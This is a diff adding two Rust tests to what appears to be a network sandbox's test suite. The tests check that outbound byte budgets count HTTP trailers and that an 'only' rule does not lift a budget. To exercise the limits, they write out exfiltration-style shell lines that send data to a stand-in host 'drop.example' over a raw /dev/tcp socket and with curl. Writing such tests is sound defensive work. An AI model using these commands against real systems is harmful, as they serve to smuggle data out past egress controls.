@@ -59,6 +59,45 @@ lab_tests! {
         assert!(outcome.stderr.contains("budget"), "{outcome}");
     }
 
+    fn trailers_are_counted_as_content_is(lab) {
+        let thief = thief();
+        let value = "t".repeat(3000);
+        let script = format!(
+            "exec 3<>/dev/tcp/drop.example/8099; printf 'POST / HTTP/1.1\\r\\nHost: drop.example:8099\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-late\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nx-late: {value}\\r\\n\\r\\n' >&3; timeout 1 cat <&3",
+        );
+        for (budget, arrives) in [("2K", false), ("64K", true)] {
+            let file = lab.folder("records", Identity::Own).join("trailers.jsonl");
+            let outcome = allowed(lab, budget)
+                .option("--audit", &file.to_string_lossy())
+                .run(&bash(&script));
+            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
+            assert_eq!(sent.contains(&value), arrives, "{budget}: {sent} {outcome}");
+            assert_eq!(outcome.stderr.contains("raise `budget`"), !arrives, "{budget}: {outcome}");
+            let up = |record: &serde_json::Value| record["bytes_up"].as_u64();
+            let up = records(&file).iter().filter_map(up).max();
+            assert_eq!(up.is_some_and(|up| up > 3000), arrives, "{budget}: {up:?}");
+            std::fs::remove_file(&file).expect("a record");
+        }
+    }
+
+    fn an_only_rule_without_a_budget_does_not_lift_one(lab) {
+        let thief = thief();
+        let file = lab.folder("given", Identity::Own).join("only.toml");
+        let policy = "[[only]]\nrule = \"http://drop.example:8099\"\n\
+                      [[allow]]\nrule = \"http://drop.example:8099\"\nbudget = \"4K\"\n";
+        std::fs::write(&file, policy).expect("a policy");
+        let script = "for n in 1 2 3; do head -c 3000 /dev/zero | tr '\\0' 'a' | curl -sS --data-binary @- $URL/$n; echo; done";
+        let outcome = Sandbox::plain(lab, Identity::Own)
+            .option("-P", "base")
+            .option("-p", &file.to_string_lossy())
+            .pin("drop.example:8099=127.0.0.1:8099")
+            .run(&bash(script));
+        let arrived = outcome.stdout.lines().filter(|line| *line == "arrived").count();
+        assert_eq!(arrived, 1, "{outcome}");
+        assert!(thief.take().len() <= 4096, "{outcome}");
+        assert!(outcome.stderr.contains("only.toml:4:9"), "the place: {outcome}");
+    }
+
     fn messages_of_a_websocket_are_counted(lab) {
         let thief = thief();
         let given = lab.folder("given", Identity::Own);
